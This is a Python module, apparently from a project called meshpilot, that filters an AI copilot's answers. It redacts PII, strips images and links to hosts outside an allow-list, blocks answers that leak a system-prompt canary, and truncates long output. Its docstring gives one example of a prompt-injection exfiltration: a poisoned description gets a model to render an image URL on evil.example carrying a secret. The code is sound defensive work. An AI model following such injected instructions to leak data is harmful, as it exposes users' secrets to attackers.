"""Output guard: what the copilot says passes here before a user, a channel or a log sees it.

- PII is redacted unless the caller may read PII (policy `pii: allow`); pseudonymised placeholders are
  restored only for callers who may read PII.
- Markdown images and links to hosts not on the allow-list are stripped: a poisoned description can ask
  a model to render `![](https://evil.example/?q=<secret>)`, which leaks data the moment it is displayed.
- A canary planted in system prompts: if it shows up in an answer, the system prompt leaked, and the
  answer is withheld.
- Size caps: answers longer than the cap are cut, with a note saying so.
"""

from __future__ import annotations

import re
import secrets
from dataclasses import dataclass, field
from urllib.parse import urlparse

from meshpilot.guardrails import pii

DEFAULT_ALLOWED_HOSTS = ("localhost", "127.0.0.1")
# LOCATION is not redacted from answers: product, table and team names read like places to a NER model.
REDACTED_ENTITIES = tuple(e for e in pii.ENTITIES if e != "LOCATION")
REDACTION_THRESHOLD = 0.7
MAX_CHARS = 20_000

_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_HTML_IMG = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
_BARE_URL = re.compile(r"\bhttps?://[^\s)<>\"']+")


def new_canary() -> str:
    """A random marker to plant in a system prompt; it must never appear in an answer."""
    return f"mp-canary-{secrets.token_hex(6)}"


@dataclass
class GuardedOutput:
    text: str
    actions: list[str] = field(default_factory=list)  # what the guard changed, for the audit log
    blocked: bool = False

    def as_dict(self) -> dict:
        return {"text": self.text, "actions": self.actions, "blocked": self.blocked}


def guard_output(text: str, *, may_read_pii: bool, allowed_hosts: tuple[str, ...] = DEFAULT_ALLOWED_HOSTS,
                 canary: str | None = None, pseudonymizer: pii.Pseudonymizer | None = None,
                 max_chars: int = MAX_CHARS) -> GuardedOutput:
    actions: list[str] = []
    if canary and canary in text:
        return GuardedOutput("The answer was withheld: it contained part of the system prompt.",
                             ["blocked: system prompt canary leaked"], blocked=True)
    if len(text) > max_chars:
        text = text[:max_chars] + f"\n\n[answer cut at {max_chars} characters]"
        actions.append(f"truncated to {max_chars} characters")

    def allowed(url: str) -> bool:
        parsed = urlparse(url)
        if parsed.scheme in ("", "mesh"):  # relative links and mesh:// citations stay
            return True
        host = (parsed.hostname or "").lower()
        return parsed.scheme in ("http", "https") and any(host == h or host.endswith("." + h) for h in allowed_hosts)

    def image(match: re.Match) -> str:
        if allowed(match.group(2)):
            return match.group(0)
        actions.append(f"image removed: {urlparse(match.group(2)).hostname or match.group(2)[:40]}")
        return f"[image removed: {match.group(1) or 'external image'}]"

    def link(match: re.Match) -> str:
        if allowed(match.group(2)):
            return match.group(0)
        actions.append(f"link removed: {urlparse(match.group(2)).hostname or match.group(2)[:40]}")
        return match.group(1)

    def bare(match: re.Match) -> str:
        if allowed(match.group(0)):
            return match.group(0)
        actions.append(f"URL removed: {urlparse(match.group(0)).hostname}")
        return "[link removed]"

    text = _IMAGE.sub(image, text)
    text = _LINK.sub(link, text)
    if _HTML_IMG.search(text):
        text = _HTML_IMG.sub("[image removed]", text)
        actions.append("HTML image removed")
    text = _BARE_URL.sub(bare, text)

    if may_read_pii:
        if pseudonymizer is not None:
            text = pseudonymizer.restore(text)
    else:
        # Redaction is irreversible, so it takes confident findings only; placeholders of values read from
        # the data stay placeholders, those of public values (the user's own words, owners' contacts) return.
        findings = pii.analyze(text, REDACTED_ENTITIES, threshold=REDACTION_THRESHOLD)
        if findings:
            text, _ = pii.anonymize(text, "redact", findings=findings)
            actions.append("PII redacted: " + ", ".join(sorted({f.entity_type for f in findings})))
        if pseudonymizer is not None:
            text = pseudonymizer.restore(text, public_only=True)
    return GuardedOutput(text, actions)
